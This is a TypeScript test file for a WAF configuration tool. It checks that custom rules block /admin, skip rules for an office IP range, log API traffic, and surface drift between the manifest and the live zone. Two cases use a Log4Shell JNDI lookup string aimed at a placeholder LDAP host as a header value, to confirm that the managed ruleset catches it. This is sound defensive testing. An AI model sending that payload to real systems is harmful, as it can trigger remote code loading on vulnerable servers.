/**
 * `zonewall test` over WAF custom rules: offline with the engine's own custom rules evaluator, and
 * against the live zone (embedded engine) after apply, with the same answers; cases name rules
 * `custom_rules.<key>`; a skip of the remaining rules lets the request on (`action: skip`), a skip of
 * the managed phase and of `waf` keeps both WAFs quiet; a typo in a name gets a suggestion; a rule
 * changed through the API outside zonewall shows as a failing case naming the live rule.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CustomPhase } from '../../src/api/index.js';
import { applyZone } from '../../src/apply/index.js';
import { formatIssue, wafGenerationOf } from '../../src/manifest/index.js';
import { diffZone } from '../../src/plan/index.js';
import { buildZoneModel, checkCasesAgainstZone, runAgainstZone, runOffline } from '../../src/policy/index.js';
import { openProvider, type Provider } from '../../src/providers/index.js';
import { casesOf, desiredOf } from './fixtures.js';

const manifest = `zone: custom.example.com
plan: enterprise
managed_rules:
  - ruleset: managed
custom_rules:
  trusted-monitor:
    action: skip
    expression: http.user_agent eq "monitor/1.0"
    action_parameters: { phases: [http_request_firewall_managed], products: [waf] }
  audit-api:
    action: log
    expression: starts_with(http.request.uri.path, "/api/")
  allow-office:
    action: skip
    expression: ip.src in {192.0.2.0/24}
    action_parameters: { ruleset: current }
  block-admin:
    action: block
    expression: starts_with(http.request.uri.path, "/admin")
    action_parameters:
      response: { status_code: 403, content_type: text/plain, content: no }
`;

const cases = casesOf(`- name: admin is blocked by the custom rule
  request: { path: /admin, ip: 203.0.113.9, headers: { User-Agent: Mozilla/5.0 } }
  expect: { action: block, matched: custom_rules.block-admin }
- name: the office skips the remaining custom rules
  request: { path: /admin, ip: 192.0.2.7, headers: { User-Agent: Mozilla/5.0 } }
  expect: { action: skip, allowed: true, matched: custom_rules.allow-office }
- name: API traffic is logged and goes on
  request: { path: /api/v1/items, ip: 203.0.113.9, headers: { User-Agent: Mozilla/5.0 } }
  expect: { action: log, allowed: true, matched: custom_rules.audit-api }
- name: log4j is blocked by the managed ruleset
  request: { ip: 203.0.113.9, headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
  expect: { matched: managed_rules.managed }
- name: the monitor skips the managed rules and the previous WAF
  request: { ip: 203.0.113.9, headers: { User-Agent: monitor/1.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
  expect: { allowed: true, matched: [custom_rules.trusted-monitor] }
`).cases;

const pass = (results: { name: string; pass: boolean; failures: string[] }[]) => results.filter((r) => !r.pass).map((r) => [r.name, r.failures]);

describe('zonewall test over custom rules', () => {
  const desired = desiredOf(manifest, 'zone.yaml');

  it('passes offline, naming custom rules by key', () => {
    const results = runOffline(buildZoneModel(desired), cases);
    expect(pass(results)).toEqual([]);
    expect(results[0]!.actual).toMatchObject({ action: 'block', decided_by: 'custom_rules', rule: 'custom_rules.block-admin' });
    expect(results[4]!.actual.matched).toEqual(['custom_rules.trusted-monitor']);
  });

  it('checks custom rule names against the manifest, with a suggestion', () => {
    const bad = casesOf(`- name: typo
  request: { path: /admin }
  expect: { matched: custom_rules.block-admn }
`);
    expect(checkCasesAgainstZone(bad, desired).map(formatIssue)).toEqual([expect.stringContaining('no custom rule "block-admn" in zone.yaml; did you mean "block-admin"?')]);
  });

  describe('against the embedded engine', () => {
    let dir: string;
    let provider: Provider;
    beforeAll(async () => {
      dir = mkdtempSync(join(tmpdir(), 'zw-policy-custom-'));
      provider = await openProvider({ stateDir: dir });
      const { zone } = await provider.resolveZone(desired.zone, { create: { plan: 'enterprise', waf: wafGenerationOf(desired) } });
      const result = await applyZone(diffZone(desired, await provider.readZone(zone.id)), provider, { force: true });
      expect(result.ok).toBe(true);
    });
    afterAll(async () => {
      await provider.close();
      rmSync(dir, { recursive: true, force: true });
    });

    it('gives the same answers as offline', async () => {
      const live = await runAgainstZone(provider, desired, cases);
      expect(live.map((r) => [r.name, r.actual])).toEqual(runOffline(buildZoneModel(desired), cases).map((r) => [r.name, r.actual]));
      expect(pass(live)).toEqual([]);
    });

    it('shows drift: a rule changed outside zonewall fails the case that relied on it', async () => {
      const { zone } = await provider.resolveZone(desired.zone);
      const entry = (await provider.readZone(zone.id)).customEntrypoint!;
      const admin = entry.rules.find((r) => r.ref === 'block-admin')!;
      await provider.updatePhaseRule(zone.id, CustomPhase, entry.id, admin.id, { body: { ref: 'block-admin', action: 'managed_challenge', expression: admin.expression, enabled: true } });
      const live = await runAgainstZone(provider, desired, cases.slice(0, 1));
      expect(live[0]!.failures).toEqual(['expected action block, got managed_challenge by custom_rules.block-admin']);
    });
  });
});
